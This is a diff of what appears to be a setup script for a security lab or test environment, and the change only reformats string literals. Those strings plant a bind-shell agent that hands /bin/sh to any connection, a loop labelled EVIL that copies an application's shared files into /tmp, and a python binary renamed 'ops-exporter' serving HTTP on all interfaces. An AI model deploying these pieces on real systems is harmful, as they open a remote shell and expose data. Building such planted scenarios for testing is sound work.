@@ -38,7 +38,8 @@ while True:
     c, _ = s.accept(); subprocess.Popen(["/bin/sh", "-i"], stdin=c, stdout=c, stderr=c)
 """
 REPORT = "import time\nwhile True:\n    time.sleep(60)\n"
-EVIL = "import os, time\nwhile True:\n    os.system('cp /var/www/yourapplication/shared/* /tmp/ 2>/dev/null'); time.sleep(60)\n"
+EVIL = ("import os, time\nwhile True:\n    os.system('cp /var/www/yourapplication/shared/* /tmp/ 2>/dev/null')\n"
+        "    time.sleep(60)\n")
 START = r"""
 cd /
 setsid -f /usr/local/bin/ops-exporter -m http.server 9100 --bind 0.0.0.0 >/dev/null 2>&1 </dev/null
@@ -46,7 +47,8 @@ setsid -f /usr/bin/python3 /usr/local/sbin/agent.py >/dev/null 2>&1 </dev/null
 setsid -f runuser -u yourapplication -- /usr/bin/python3 /opt/report/report.py >/dev/null 2>&1 </dev/null
 sleep 2
 """
-STOP = ("pkill -f '^/usr/local/bin/ops-exporter' || true; pkill -f '^/usr/bin/python3 /usr/local/sbin/agent.py' || true\n"
+STOP = ("pkill -f '^/usr/local/bin/ops-exporter' || true\n"
+        "pkill -f '^/usr/bin/python3 /usr/local/sbin/agent.py' || true\n"
         "pkill -f '^/usr/bin/python3 /opt/report/report.py' || true; sleep 1\n")
 ADD = (f"cp /usr/bin/python3.11 /usr/local/bin/ops-exporter\nmkdir -p /opt/report\n"
        f"cat > /usr/local/sbin/agent.py <<'X'\n{AGENT}X\nchmod 755 /usr/local/sbin/agent.py\n"
